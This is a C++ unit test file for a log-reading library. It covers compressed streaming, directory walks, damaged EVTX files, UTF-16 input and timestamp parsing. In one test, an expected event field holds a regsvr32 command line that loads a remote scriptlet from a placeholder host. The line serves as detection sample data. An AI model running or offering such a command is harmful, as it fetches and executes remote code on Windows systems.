// Decompression and streaming: gzip (also multi-member), zstd, chunk boundaries.
#include <gtest/gtest.h>
#include <zlib.h>
#include <zstd.h>

#include <string>

#include "io/stream.h"
#include "io/time_parse.h"
#include "io_test_util.h"

namespace splinter::io::testing {

int64_t utc_us(int y, int mo, int d, int h, int mi, int s) {
  return ((days_from_civil(y, unsigned(mo), unsigned(d)) * 24 + h) * 60 + mi) * 60 * 1000000LL +
         s * 1000000LL;
}

namespace {

std::string gzip(const std::string& in) {
  z_stream zs{};
  EXPECT_EQ(deflateInit2(&zs, 6, Z_DEFLATED, 15 + 16, 8, Z_DEFAULT_STRATEGY), Z_OK);
  std::string out(deflateBound(&zs, uLong(in.size())) + 64, '\0');
  zs.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(in.data()));
  zs.avail_in = uInt(in.size());
  zs.next_out = reinterpret_cast<Bytef*>(out.data());
  zs.avail_out = uInt(out.size());
  EXPECT_EQ(deflate(&zs, Z_FINISH), Z_STREAM_END);
  out.resize(zs.total_out);
  deflateEnd(&zs);
  return out;
}

std::string zstd(const std::string& in) {
  std::string out(ZSTD_compressBound(in.size()), '\0');
  size_t n = ZSTD_compress(out.data(), out.size(), in.data(), in.size(), 3);
  EXPECT_FALSE(ZSTD_isError(n));
  out.resize(n);
  return out;
}

std::string read_all(ByteSource& src, size_t piece) {
  std::string out, buf(piece, '\0');
  for (size_t n; (n = src.read(buf.data(), buf.size())) > 0;) out.append(buf, 0, n);
  return out;
}

std::string big_text() {
  std::string s;
  for (int i = 0; i < 200000; ++i) s += "line " + std::to_string(i) + " some text\n";
  return s;
}

TEST(IoStream, PlainFile) {
  TempDir d;
  std::string text = big_text();
  ByteSource src;
  ASSERT_TRUE(src.open(d.file("a.txt", text)));
  EXPECT_EQ(src.compression(), Compression::None);
  EXPECT_EQ(read_all(src, 7777), text);
}

TEST(IoStream, GzipRoundTrip) {
  TempDir d;
  std::string text = big_text();
  ByteSource src;
  ASSERT_TRUE(src.open(d.file("a.gz", gzip(text))));
  EXPECT_EQ(src.compression(), Compression::Gzip);
  EXPECT_EQ(read_all(src, 65536), text);
  EXPECT_EQ(src.error(), "");
}

TEST(IoStream, GzipMultiMember) {
  TempDir d;
  std::string a = "first member\n", b = big_text(), c = "third\n";
  ByteSource src;
  ASSERT_TRUE(src.open(d.file("m.gz", gzip(a) + gzip(b) + gzip(c))));
  EXPECT_EQ(read_all(src, 1000), a + b + c);
  EXPECT_EQ(src.error(), "");
}

TEST(IoStream, GzipTruncatedReportsError) {
  TempDir d;
  std::string z = gzip(big_text());
  ByteSource src;
  ASSERT_TRUE(src.open(d.file("t.gz", z.substr(0, z.size() / 2))));
  std::string got = read_all(src, 4096);
  EXPECT_FALSE(got.empty());
  EXPECT_NE(src.error(), "");
}

TEST(IoStream, ZstdRoundTripAndConcatenatedFrames) {
  TempDir d;
  std::string text = big_text();
  ByteSource src;
  ASSERT_TRUE(src.open(d.file("a.zst", zstd(text) + zstd("tail\n"))));
  EXPECT_EQ(src.compression(), Compression::Zstd);
  EXPECT_EQ(read_all(src, 100000), text + "tail\n");
  EXPECT_EQ(src.error(), "");
}

TEST(IoStream, MissingFile) {
  ByteSource src;
  EXPECT_FALSE(src.open("/nonexistent/splinter/file"));
  EXPECT_NE(src.error(), "");
}

TEST(IoStream, BufferTracksOffsetAndLines) {
  std::string text = "a\nbb\nccc\n";
  ByteSource src;
  src.open_memory(text.data(), text.size());
  StreamBuffer sb(src, 2);  // tiny chunks: every record crosses a boundary
  while (sb.fill()) {
  }
  EXPECT_EQ(sb.avail(), text.size());
  sb.consume(5);
  EXPECT_EQ(sb.offset(), 5u);
  EXPECT_EQ(sb.line(), 3u);
}

// A directory of thousands of 1 KB files took seconds of page faults: every file got
// (and zero-filled) a 1 MiB raw buffer and a 1 MiB window. Buffers now start at about
// the file's size and grow only while the input keeps coming.
TEST(IoStream, SmallFileGetsSmallBuffers) {
  TempDir d;
  const std::string text(1000, 'x');
  for (const std::string& path : {d.file("s.txt", text), d.file("s.gz", gzip(text)), d.file("s.zst", zstd(text))}) {
    SCOPED_TRACE(path);
    ByteSource src;
    ASSERT_TRUE(src.open(path));
    StreamBuffer sb(src);
    while (sb.fill()) {
    }
    EXPECT_EQ(sb.view(), text);
    EXPECT_LE(src.buffer_capacity(), size_t(8) << 10);
    EXPECT_LE(sb.capacity(), 2 * StreamBuffer::kFirstFill);  // first read + the one that finds the end
  }
  ByteSource mem;
  mem.open_memory(text.data(), text.size());
  StreamBuffer sb(mem);
  while (sb.fill()) {
  }
  EXPECT_EQ(sb.view(), text);
  EXPECT_LE(mem.buffer_capacity(), size_t(8) << 10);
  EXPECT_LE(sb.capacity(), 2 * StreamBuffer::kFirstFill);  // first read + the one that finds the end
}

// A large input still arrives whole, the window growing to the chunk size and no further
// while it is consumed as it goes.
TEST(IoStream, BuffersGrowWithALargeInput) {
  TempDir d;
  const std::string text = big_text();  // 4.3 MB
  for (const std::string& path : {d.file("b.txt", text), d.file("b.gz", gzip(text))}) {
    SCOPED_TRACE(path);
    ByteSource src;
    ASSERT_TRUE(src.open(path));
    StreamBuffer sb(src);
    std::string got;
    size_t fills = 0;
    while (sb.fill()) {
      ++fills;
      got.append(sb.data(), sb.avail());
      sb.consume(sb.avail());
    }
    EXPECT_EQ(got, text);
    EXPECT_EQ(sb.line(), 200001u);
    EXPECT_LE(sb.capacity(), size_t(1) << 20);
    EXPECT_LE(src.buffer_capacity(), size_t(1) << 20);
    EXPECT_LE(fills, 7 + text.size() / (size_t(1) << 20));  // 16 KiB doubling to 1 MiB reads
  }
}

// Thousands of small files in a directory: each one read whole and on its own.
TEST(IoReadInputs, DirectoryOfManySmallFiles) {
  const std::string rec =
      "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><EventID>1</EventID>"
      "<EventRecordID>";
  TempDir d;
  const int n = 2000;
  for (int i = 0; i < n; ++i)
    d.file("logs/f" + std::to_string(10000 + i) + ".log",
           rec + std::to_string(i) + "</EventRecordID></System></Event>\n");
  CollectSink s;
  auto stats = read_inputs({d.path() + "/logs"}, s);
  ASSERT_EQ(stats.size(), size_t(n));
  ASSERT_EQ(s.events.size(), size_t(n));
  EXPECT_TRUE(s.problems.empty());
  for (int i = 0; i < n; ++i) {
    EXPECT_EQ(stats[i].format, Format::XmlWinEventLog);
    EXPECT_EQ(stats[i].parsed, 1u);
    EXPECT_EQ(stats[i].bytes, rec.size() + std::to_string(i).size() + 34);
    EXPECT_EQ(s.events[i].at("EventRecordID"), std::to_string(i));
    EXPECT_EQ(s.events[i].line, 1u);
  }
}

// Found by a first user: an .evtx whose file header is damaged, inside a directory, was
// "not a log" and silently skipped; its chunks are intact and must be read.
TEST(IoReadInputs, DamagedEvtxHeaderInADirectoryIsStillRead) {
  std::string c19 = slurp(shared_dir() + "/cases/C19.evtx");
  if (c19.empty()) GTEST_SKIP() << "shared cases absent";
  TempDir d;
  std::string smashed = c19;
  smashed.replace(0, 8, "XXXXXXXX");
  d.file("logs/a.evtx", smashed);          // chunk signature still where the first chunk starts
  std::string noname = smashed;
  d.file("logs/b.bin", noname);            // found by its chunk signature, not its name
  CollectSink s;
  auto stats = read_inputs({d.path() + "/logs"}, s);
  ASSERT_EQ(stats.size(), 2u);
  for (auto& st : stats) {
    EXPECT_FALSE(st.skipped) << st.path;
    EXPECT_EQ(st.format, Format::Evtx) << st.path;
    EXPECT_EQ(st.parsed, 3u) << st.path;
  }
  EXPECT_EQ(s.events.size(), 6u);
}

// Directory links are followed (collections are often assembled with links), and a
// link cycle is entered once, never looped.
TEST(IoReadInputs, DirectoryLinksFollowedOnce) {
  TempDir d;
  const std::string rec =
      "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><EventID>1</EventID>"
      "<EventRecordID>7</EventRecordID></System></Event>\n";
  d.file("real/a.log", rec);
  std::filesystem::create_directories(d.path() + "/top");
  std::filesystem::create_directory_symlink(d.path() + "/real", d.path() + "/top/linked");
  std::filesystem::create_directory_symlink(d.path() + "/top", d.path() + "/real/cycle");
  CollectSink s;
  auto stats = read_inputs({d.path() + "/top"}, s);
  ASSERT_EQ(s.events.size(), 1u);
  EXPECT_EQ(s.events[0].at("EventRecordID"), "7");
}

TEST(IoReadInputs, GzipAndZstdXmlFilesGiveSameEvents) {
  std::string c01 = slurp(shared_dir() + "/cases/C01.xml");
  if (c01.empty()) GTEST_SKIP() << "shared cases absent";
  TempDir d;
  std::string p1 = d.file("c.xml.gz", gzip(c01));
  std::string p2 = d.file("c.xml.zst", zstd(c01));
  CollectSink s;
  auto stats = read_inputs({p1, p2}, s);
  ASSERT_EQ(stats.size(), 2u);
  ASSERT_EQ(s.events.size(), 2u);
  for (const auto& st : stats) {
    EXPECT_EQ(st.format, Format::XmlWinEventLog);
    EXPECT_EQ(st.parsed, 1u);
    EXPECT_EQ(st.rejected, 0u);
    EXPECT_EQ(st.bytes, c01.size());
  }
  EXPECT_EQ(s.events[0].at("CommandLine"),
            "regsvr32.exe /s /n /u /i:http://update.example.test/a.sct scrobj.dll");
  EXPECT_EQ(s.events[0].fields.size(), s.events[1].fields.size());
}

TEST(IoReadInputs, GzipJsonLinesSpanningManyChunks) {
  TempDir d;
  std::string text;
  for (int i = 0; i < 30000; ++i)
    text += R"({"EventID": 4688, "Hostname": "H", "CommandLine": "cmd.exe /c echo )" + std::to_string(i) +
            R"(", "EventTime": "2024-01-02 03:04:05"})" + "\n";
  CollectSink s;
  auto stats = read_inputs({d.file("j.json.gz", gzip(text))}, s);
  ASSERT_EQ(stats.size(), 1u);
  EXPECT_EQ(stats[0].format, Format::Json);
  EXPECT_EQ(stats[0].parsed, 30000u);
  EXPECT_EQ(stats[0].rejected, 0u);
  ASSERT_EQ(s.events.size(), 30000u);
  EXPECT_EQ(s.events[29999].at("CommandLine"), "cmd.exe /c echo 29999");
  EXPECT_EQ(s.events[29999].line, 30000u);
  EXPECT_EQ(s.events[12345].time_us, utc_us(2024, 1, 2, 3, 4, 5));
}

TEST(IoReadInputs, MissingPathAndDirectoryWalk) {
  TempDir d;
  d.file("b/2.xml", slurp(shared_dir() + "/cases/C01.xml") + "\n");
  d.file("a/1.json", R"({"EventID": 1, "Hostname": "X"})");
  d.file("c.txt", "hello world\n");
  CollectSink s;
  auto stats = read_inputs({d.path(), d.path() + "/missing.xml"}, s);
  ASSERT_EQ(stats.size(), 4u);
  EXPECT_EQ(stats[0].path, d.path() + "/a/1.json");
  EXPECT_EQ(stats[0].format, Format::Json);
  EXPECT_EQ(stats[1].path, d.path() + "/b/2.xml");
  // A non-log file met while walking a directory is skipped, not an error...
  EXPECT_EQ(stats[2].format, Format::Unknown);
  EXPECT_TRUE(stats[2].skipped);
  EXPECT_TRUE(stats[3].failed);
  bool unrecognised = false, missing = false;
  for (const auto& p : s.problems) {
    unrecognised |= p.what == "unrecognised format";
    missing |= p.file == d.path() + "/missing.xml";
  }
  EXPECT_FALSE(unrecognised);
  EXPECT_TRUE(missing);
  // ...but the same file named explicitly is reported.
  CollectSink s2;
  auto named = read_inputs({d.path() + "/c.txt"}, s2);
  ASSERT_EQ(named.size(), 1u);
  EXPECT_FALSE(named[0].skipped);
  ASSERT_EQ(s2.problems.size(), 1u);
  EXPECT_EQ(s2.problems[0].what, "unrecognised format");
}

// Found by a new user: in a directory walk, a log that starts with NUL padding was
// "not a log" and skipped silently (its 50 regsvr32 events lost), and security_content
// YAML with JSON samples in it was read as JSON (thousands of errors).
TEST(IoReadInputs, DirectoryWalkJudgesNamesAndNulPadding) {
  TempDir d;
  const std::string xml = slurp(shared_dir() + "/cases/C01.xml") + "\n";
  d.file("a_padded.log", std::string(4, '\0') + xml);
  d.file("b_junk.log", std::string(70000, 'x') + "\n" + xml);
  d.file("c_data.yml", "example: {\"EventID\": 1}\n{\"EventID\": 1, \"Hostname\": \"X\"}\n");
  d.file("d_README", "hello\n");
  CollectSink s;
  auto stats = read_inputs({d.path()}, s);
  ASSERT_EQ(stats.size(), 4u);
  EXPECT_EQ(stats[0].format, Format::XmlWinEventLog);
  EXPECT_GE(stats[0].parsed, 1u);
  EXPECT_FALSE(stats[0].skipped);
  // Named like a log but unreadable: skipped, with a warning naming the file.
  EXPECT_TRUE(stats[1].skipped);
  EXPECT_TRUE(stats[2].skipped);  // by its name: not read at all
  EXPECT_EQ(stats[2].read, 0u);
  EXPECT_TRUE(stats[3].skipped);  // silently
  size_t junk_warnings = 0;
  for (const auto& p : s.problems) {
    EXPECT_NE(p.file, d.path() + "/c_data.yml");
    EXPECT_NE(p.file, d.path() + "/d_README");
    junk_warnings += p.file == d.path() + "/b_junk.log" && p.warning;
  }
  EXPECT_EQ(junk_warnings, 1u);
}

TEST(IoReadInputs, GarbageNeverThrows) {
  TempDir d;
  std::string junk;
  uint32_t x = 12345;
  for (int i = 0; i < 200000; ++i) {
    x = x * 1103515245 + 12345;
    junk += char(x >> 24);
  }
  std::vector<std::string> paths = {d.file("j1", "{" + junk), d.file("j2", "<" + junk),
                                    d.file("j3", "[" + junk), d.file("j4", "<Event " + junk),
                                    d.file("j5", gzip(junk).substr(0, 10))};
  CollectSink s;
  std::vector<FileStats> stats;
  EXPECT_NO_THROW(stats = read_inputs(paths, s));
  EXPECT_EQ(stats.size(), paths.size());
  for (const auto& st : stats) EXPECT_EQ(st.read, st.parsed + st.rejected);
}

TEST(IoTime, IsoForms) {
  int64_t base = utc_us(2024, 5, 14, 9, 15, 2);
  EXPECT_EQ(parse_iso_time("2024-05-14T09:15:02.4471234Z"), base + 447123);
  EXPECT_EQ(parse_iso_time("2024-05-14T09:15:02Z"), base);
  EXPECT_EQ(parse_iso_time("2024-05-14 09:15:02.529"), base + 529000);
  EXPECT_EQ(parse_iso_time("2024-05-14T09:15:02.1+00:00"), base + 100000);
  EXPECT_EQ(parse_iso_time("2024-05-14T11:15:02+02:00"), base);
  EXPECT_EQ(parse_iso_time("2024-05-14T09:15:02"), base);
  EXPECT_EQ(parse_iso_time("garbage"), kNoTime);
  EXPECT_EQ(parse_iso_time("2024-13-14T09:15:02Z"), kNoTime);
  // A day past the month's end is no date (found by a new user: 2024-02-30 became March 1).
  EXPECT_EQ(parse_iso_time("2024-02-30T00:00:00Z"), kNoTime);
  EXPECT_EQ(parse_iso_time("2023-02-29T00:00:00Z"), kNoTime);
  EXPECT_EQ(parse_iso_time("2024-02-29T00:00:00Z"), utc_us(2024, 2, 29, 0, 0, 0));
  EXPECT_EQ(parse_iso_time("2100-02-29T00:00:00Z"), kNoTime);
  EXPECT_EQ(parse_iso_time("2000-02-29T00:00:00Z"), utc_us(2000, 2, 29, 0, 0, 0));
  EXPECT_EQ(parse_iso_time("2024-04-31T00:00:00Z"), kNoTime);
  EXPECT_EQ(parse_classic_time("02/30/2024 01:00:00 AM"), kNoTime);
  // The whole range, exactly: the last microsecond of 9999, the epoch, and before it.
  EXPECT_EQ(parse_iso_time("9999-12-31T23:59:59.9999999Z"), 253402300799999999);
  EXPECT_EQ(parse_iso_time("1970-01-01T00:00:00Z"), 0);
  EXPECT_EQ(parse_iso_time("1969-07-20T20:17:40.5Z"), -14182939500000);
  EXPECT_EQ(parse_iso_time("1601-01-01T00:00:00Z"), -11644473600000000);
  EXPECT_EQ(parse_classic_time("01/14/2021 11:41:39 PM"), utc_us(2021, 1, 14, 23, 41, 39));
  EXPECT_EQ(parse_classic_time("01/14/2021 12:01:00 AM"), utc_us(2021, 1, 14, 0, 1, 0));
  // A one-digit hour (with or without AM/PM) was cut by a length check.
  EXPECT_EQ(parse_classic_time("01/14/2021 1:41:39 PM"), utc_us(2021, 1, 14, 13, 41, 39));
  EXPECT_EQ(parse_classic_time("01/14/2021 1:41:39\r"), utc_us(2021, 1, 14, 1, 41, 39));
  EXPECT_EQ(parse_classic_time("01/14/2021 23:41:39"), utc_us(2021, 1, 14, 23, 41, 39));
  EXPECT_EQ(parse_classic_time("01/14/2021 1:41"), kNoTime);
  EXPECT_EQ(parse_classic_time("01/14/2021 1:41:3"), kNoTime);
  EXPECT_EQ(parse_classic_time("01/14/2021 1:41:39 XM"), kNoTime);
}

}  // namespace
}  // namespace splinter::io::testing

TEST(IoStream, Utf16WithBomIsTranscoded) {
  // "<a>é😀</a>\n" as UTF-16LE and BE with a BOM, plus a lone surrogate -> U+FFFD.
  const std::u16string text = u"<a>\u00e9\U0001F600</a>\n";
  for (bool be : {false, true}) {
    std::string bytes = be ? "\xFE\xFF" : "\xFF\xFE";
    for (char16_t c : text) {
      char hi = char(c >> 8), lo = char(c & 0xFF);
      bytes += be ? std::string{hi, lo} : std::string{lo, hi};
    }
    bytes += be ? std::string("\xD8\x00", 2) : std::string("\x00\xD8", 2);  // lone high surrogate at the end
    splinter::io::ByteSource src;
    src.open_memory(bytes.data(), bytes.size());
    std::string out;
    char buf[3];  // tiny reads cross code point boundaries
    for (size_t k; (k = src.read(buf, sizeof buf)) > 0;) out.append(buf, k);
    EXPECT_EQ(out, "<a>\xC3\xA9\xF0\x9F\x98\x80</a>\n\xEF\xBF\xBD") << (be ? "BE" : "LE");
  }
}

TEST(IoStream, Utf16WithoutBomIsRecognisedFromAsciiStart) {
  // Some exporters write UTF-16 without a byte order mark: an XML or JSON log then
  // starts with ASCII characters, each with a zero byte on the same side.
  const std::u16string text = u"<Event>\u00e9</Event>\n";
  for (bool be : {false, true}) {
    std::string bytes;
    for (char16_t c : text) {
      char hi = char(c >> 8), lo = char(c & 0xFF);
      bytes += be ? std::string{hi, lo} : std::string{lo, hi};
    }
    splinter::io::ByteSource src;
    src.open_memory(bytes.data(), bytes.size());
    std::string out;
    char buf[5];
    for (size_t k; (k = src.read(buf, sizeof buf)) > 0;) out.append(buf, k);
    EXPECT_EQ(out, "<Event>\xC3\xA9</Event>\n") << (be ? "BE" : "LE");
  }
  // Short UTF-8 input is left alone.
  for (std::string small : {std::string("{}"), std::string("<a"), std::string("x\n\n")}) {
    splinter::io::ByteSource src;
    src.open_memory(small.data(), small.size());
    std::string out;
    char buf[8];
    for (size_t k; (k = src.read(buf, sizeof buf)) > 0;) out.append(buf, k);
    EXPECT_EQ(out, small);
  }
}
